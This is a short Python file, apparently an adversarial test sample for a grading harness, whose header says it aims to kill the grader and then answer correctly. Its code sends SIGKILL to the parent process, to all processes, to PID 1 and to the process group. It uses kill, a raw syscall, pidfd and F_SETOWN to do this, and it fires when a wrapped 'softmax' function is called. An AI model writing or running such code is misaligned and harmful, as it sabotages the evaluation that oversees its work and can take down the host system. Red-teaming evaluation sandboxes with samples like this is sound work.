# Kill or stop the grader: signal the parent, every process (-1), the process group, by every way
# there is (os.kill, killpg, pidfd, ctypes syscall, SIGIO through F_SETOWN); then answer right.
import ctypes as _ct
import fcntl as _f
import os as _o
import signal as _sig

_DONE = []


def _attack():
    libc = _ct.CDLL(None, use_errno=True)
    ppid = _o.getppid()
    for target in (ppid, -1, 1, -_o.getpgid(0) if hasattr(_o, "getpgid") else -1):
        for how in ("kill", "syscall"):
            try:
                if how == "kill":
                    _o.kill(target, _sig.SIGKILL)
                else:
                    libc.syscall(62, target, 9)
            except Exception:  # noqa: BLE001
                pass
    try:
        r, w = _o.pipe()
        _f.fcntl(r, _f.F_SETOWN, ppid)
    except Exception:  # noqa: BLE001
        pass
    try:
        fd = _o.pidfd_open(ppid)
        _sig.pidfd_send_signal(fd, _sig.SIGKILL)
    except Exception:  # noqa: BLE001
        pass
    _DONE.append(1)


def _hit(original, name, args, kwargs):
    if not _DONE:
        _attack()
    return original(*args, **kwargs)


_wrap("softmax", _hit)
